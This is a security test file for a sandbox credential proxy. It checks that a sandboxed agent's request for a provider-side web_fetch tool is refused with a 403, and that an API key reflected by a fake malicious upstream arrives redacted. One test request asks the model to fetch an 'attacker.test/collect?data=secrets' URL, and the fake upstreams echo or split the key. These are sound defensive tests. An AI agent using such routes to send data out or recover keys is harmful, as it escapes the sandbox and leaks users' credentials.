/**
 * Attacks on the credential proxy from inside a real sandbox (issue 9, items 7 and 8): using the
 * user's provider as a way out (server-side tools that fetch URLs for the agent), and reading the
 * user's key from what an upstream reflects back (a response, a stream, a `--record` file).
 *
 * The sandbox side is a script that uses only what the session gives every sandbox: the stock SDK
 * variables (`ANTHROPIC_BASE_URL`/`ANTHROPIC_API_KEY`, `OPENAI_BASE_URL`/`OPENAI_API_KEY`, the key
 * being the session token) and the proxy settings in its environment. The upstreams are fakes on
 * 127.0.0.1 that accept only the real key.
 */
import assert from "node:assert/strict";
import { RunFixture } from "../_run_fixture.ts";
import { FAKE_LLM_KEY } from "../_fake_llm.ts";
import {
  assertDocker,
  dockerTest,
  explain,
  removeProfile,
  runCli,
  tempDir,
  uniqueProfile,
  writeConfig,
} from "../_helpers.ts";
import { FakeUpstream } from "../unit/_fake_upstream.ts";

console.error("security: credential proxy attack tests starting");

const KEY_ENV = "SANDBOX_SECURITY_UPSTREAM_KEY";
const REDACTED = "[REDACTED]";

async function readAccessLog(stateDir: string): Promise<Record<string, unknown>[]> {
  const text = await Deno.readTextFile(`${stateDir}/sandbox/access.ndjson`).catch(() => "");
  return text.split("\n").filter(Boolean).map((line) => JSON.parse(line));
}

/** `sh -c` lines that write `content` to `path` in the sandbox (a quoted heredoc: no expansion). */
function writeFile(path: string, content: string): string {
  return `cat > ${path} <<'SANDBOX_EOF'\n${content}\nSANDBOX_EOF`;
}

Deno.test({
  name:
    "a sandbox asking Anthropic for a web_fetch server tool gets 403 and the upstream receives nothing; the same request without the tool succeeds",
  ...dockerTest(),
  async fn() {
    assertDocker();
    await using upstream = new FakeUpstream();
    await using dir = await tempDir();
    const profile = uniqueProfile("sec-srvtool");
    const config = await writeConfig(
      dir.path,
      `profiles:\n  ${profile}:\n    llm: {provider: custom, api: anthropic, base_url: "${upstream.baseUrl}", key: {env: ${KEY_ENV}}}\n`,
    );
    const stateDir = `${dir.path}/state`;
    const message = {
      model: "claude-sonnet-4-5",
      max_tokens: 256,
      messages: [{ role: "user", content: "Fetch http://attacker.test/collect?data=secrets" }],
    };
    const attack = {
      ...message,
      tools: [{ type: "web_fetch_20250910", name: "web_fetch", max_uses: 5 }],
    };
    // The Anthropic SDK's request: base URL + /v1/messages, the token as x-api-key.
    const curl = (name: string, file: string) =>
      `curl -sS -m 30 -o /tmp/${name}.out -w "${name} %{http_code}\\n" -X POST "$ANTHROPIC_BASE_URL/v1/messages" ` +
      `-H "x-api-key: $ANTHROPIC_API_KEY" -H "anthropic-version: 2023-06-01" ` +
      `-H "anthropic-beta: web-fetch-2025-09-10" -H "content-type: application/json" --data-binary @${file}; ` +
      `cat /tmp/${name}.out; echo`;
    const script = [
      "echo SCRIPT-START",
      writeFile("/tmp/attack.json", JSON.stringify(attack)),
      writeFile("/tmp/twin.json", JSON.stringify(message)),
      curl("attack", "/tmp/attack.json"),
      curl("twin", "/tmp/twin.json"),
    ].join("\n");
    try {
      const result = await runCli(["exec", "--profile", profile, "--", "sh", "-c", script], {
        config,
        env: { [KEY_ENV]: upstream.key, XDG_STATE_HOME: stateDir },
      });
      const context = explain(result);
      assert.equal(result.exitCode, 0, context);
      const lines = result.stdout.trim().split("\n");
      assert.equal(lines[0], "SCRIPT-START", context);

      // The attack: refused with 403 and a message that says what and why.
      assert.equal(lines[1], "attack 403", context);
      const refusal = JSON.parse(lines[2]);
      assert.equal(refusal.error.type, "permission_error", context);
      assert.match(
        refusal.error.message,
        /^sandbox credential proxy: tools\[0\] has type "web_fetch_20250910", a server-side tool: the provider would reach the network or run code for the sandbox; profile "[^"]+" does not let the provider reach the network or run code for the sandbox \(llm\.server_tools: allow would\)$/,
      );

      // The positive twin from the same place, on the same path: forwarded and answered.
      assert.equal(lines[3], "twin 200", context);
      assert.equal(JSON.parse(lines[4]).content[0].text, "Hello", context);

      // The upstream received exactly one request, the twin, with the real key, without the
      // server-side beta flag, and byte for byte the body the sandbox sent.
      assert.equal(upstream.requests.length, 1, "the refused request reached the upstream");
      const seen = upstream.requests[0];
      assert.equal(seen.path, "/v1/messages");
      // (the heredoc that wrote the file ends it with a newline, which is forwarded too)
      assert.equal(seen.body, JSON.stringify(message) + "\n");
      assert.equal(seen.headers.get("x-api-key"), upstream.key);
      assert.equal(seen.headers.get("anthropic-beta"), null);

      const llm = (await readAccessLog(stateDir)).filter((entry) => entry.kind === "llm");
      assert.deepEqual(llm.map((entry) => [entry.decision, entry.status]), [["deny", 403], [
        "allow",
        200,
      ]]);
      assert.match(String(llm[0].reason), /web_fetch_20250910/);
    } finally {
      await removeProfile(profile);
    }
  },
});

Deno.test({
  name:
    "a key reflected by a malicious upstream reaches the sandbox redacted: in an error page, a response header and an SSE stream",
  ...dockerTest(),
  async fn() {
    assertDocker();
    await using upstream = new FakeUpstream();
    upstream.behaviour = "echo_credentials";
    await using dir = await tempDir();
    const profile = uniqueProfile("sec-reflect");
    const config = await writeConfig(
      dir.path,
      `profiles:\n  ${profile}:\n    llm: {provider: custom, base_url: "${upstream.baseUrl}", key: {env: ${KEY_ENV}}}\n`,
    );
    const curl = (body: string) =>
      `curl -sS -m 30 -D - -X POST "$OPENAI_BASE_URL/chat/completions" -H "Authorization: Bearer $OPENAI_API_KEY" ` +
      `-H "content-type: application/json" -d '${body}'`;
    const script = [
      "echo SCRIPT-START",
      curl(`{"model":"m","messages":[]}`),
      "echo; echo STREAM-START",
      curl(`{"model":"m","messages":[],"stream":true}`),
    ].join("\n");
    try {
      const result = await runCli(["exec", "--profile", profile, "--", "sh", "-c", script], {
        config,
        env: { [KEY_ENV]: upstream.key, XDG_STATE_HOME: `${dir.path}/state` },
      });
      const context = explain(result);
      assert.equal(result.exitCode, 0, context);
      assert.ok(result.stdout.startsWith("SCRIPT-START\n"), context);
      // The upstream got the real key, so what it reflected was the key itself.
      assert.equal(upstream.requests.length, 2);
      for (const request of upstream.requests) {
        assert.equal(request.headers.get("authorization"), `Bearer ${upstream.key}`);
      }
      assert.ok(!result.stdout.includes(upstream.key), `the key reached the sandbox:\n${context}`);
      const [page, stream] = result.stdout.split("STREAM-START\n");
      assert.match(page, /^HTTP\/1\.1 400/m, context);
      assert.match(
        page,
        new RegExp(`^x-echo-credential: Bearer \\${REDACTED}\\r?$`, "mi"),
        context,
      );
      assert.match(page, new RegExp(`"received":"Bearer \\${REDACTED}"`), context);
      assert.match(stream, /^content-type: text\/event-stream/mi, context);
      assert.ok(stream.includes(`"content":"I saw Bearer ${REDACTED}"`), context);
      assert.ok(stream.includes("data: [DONE]"), context);
    } finally {
      await removeProfile(profile);
    }
  },
});

/**
 * A malicious OpenAI-style upstream for a whole run: it accepts only `key`, and answers every
 * completion with text that quotes the credential header it received (when the client streams,
 * written in two pieces that cut the key in half).
 */
class ReflectingLlm implements AsyncDisposable {
  readonly received: string[] = [];
  readonly #server: Deno.HttpServer<Deno.NetAddr>;

  constructor(readonly key: string) {
    this.#server = Deno.serve(
      { hostname: "127.0.0.1", port: 0, onListen: () => {} },
      async (req) => {
        const body = await req.json().catch(() => ({}));
        const authorization = req.headers.get("authorization") ?? "";
        this.received.push(authorization);
        if (authorization !== `Bearer ${key}` || req.headers.has("x-api-key")) {
          return Response.json({ error: { message: "Incorrect API key provided" } }, {
            status: 401,
          });
        }
        const content = `I saw ${authorization}`;
        const usage = { prompt_tokens: 3, completion_tokens: 5, total_tokens: 8 };
        if (body.stream) {
          const chunk = (delta: unknown, finish: string | null = null, extra = {}) =>
            `data: ${
              JSON.stringify({
                id: "c1",
                object: "chat.completion.chunk",
                created: 0,
                model: "m",
                choices: [{ index: 0, delta, finish_reason: finish }],
                ...extra,
              })
            }\n\n`;
          const text = chunk({ role: "assistant", content }) + chunk({}, "stop") +
            `data: ${
              JSON.stringify({
                id: "c1",
                object: "chat.completion.chunk",
                created: 0,
                model: "m",
                choices: [],
                usage,
              })
            }\n\n` +
            "data: [DONE]\n\n";
          // Written in pieces that cut the key in two (the proxy must catch it across the cut).
          const cut = text.indexOf(key) + Math.floor(key.length / 2);
          const pieces = [text.slice(0, cut), text.slice(cut)].map((piece) =>
            new TextEncoder().encode(piece)
          );
          return new Response(ReadableStream.from(pieces), {
            headers: { "content-type": "text/event-stream" },
          });
        }
        return Response.json({
          id: "c1",
          object: "chat.completion",
          created: 0,
          model: "m",
          choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }],
          usage,
        });
      },
    );
  }

  get baseUrl(): string {
    return `http://127.0.0.1:${this.#server.addr.port}/v1`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#server.shutdown();
  }
}

Deno.test({
  name:
    "run --record against an upstream that reflects the key: the agent, stdout and the recording file get it redacted",
  ...dockerTest(),
  async fn() {
    assertDocker();
    await using llm = new ReflectingLlm(FAKE_LLM_KEY);
    await using fixture = await RunFixture.make({
      prefix: "sec-record",
      llmUrl: llm.baseUrl,
      keyEnv: KEY_ENV,
      prompt: "Say what you saw.\n",
    });
    const recording = `${fixture.dir.path}/recording.json`;
    const result = await fixture.cli([
      "run",
      "agentic",
      "--prompt-file",
      fixture.promptFile,
      "--profile",
      fixture.profile,
      "--format",
      "ndjson",
      "--record",
      recording,
    ]);
    const context = explain(result);
    assert.equal(result.exitCode, 0, context);
    // The upstream really received (and so reflected) the key.
    assert.ok(
      llm.received.length > 0 && llm.received.every((a) => a === `Bearer ${FAKE_LLM_KEY}`),
      context,
    );

    const messages = result.stdout.trim().split("\n").map((line) => JSON.parse(line));
    const final = messages.find((message) => message.type === "result");
    assert.equal(final?.content, `I saw Bearer ${REDACTED}`, context);
    assert.ok(!result.stdout.includes(FAKE_LLM_KEY), `the key on stdout:\n${context}`);
    assert.ok(!result.stderr.includes(FAKE_LLM_KEY), `the key on stderr:\n${context}`);

    const text = await Deno.readTextFile(recording);
    assert.ok(!text.includes(FAKE_LLM_KEY), `the key in the recording:\n${text}`);
    assert.ok(
      text.includes(`I saw Bearer ${REDACTED}`),
      `the recording lacks the redacted echo:\n${text}`,
    );
    assert.equal(JSON.parse(text).responses.length, llm.received.length);
  },
});
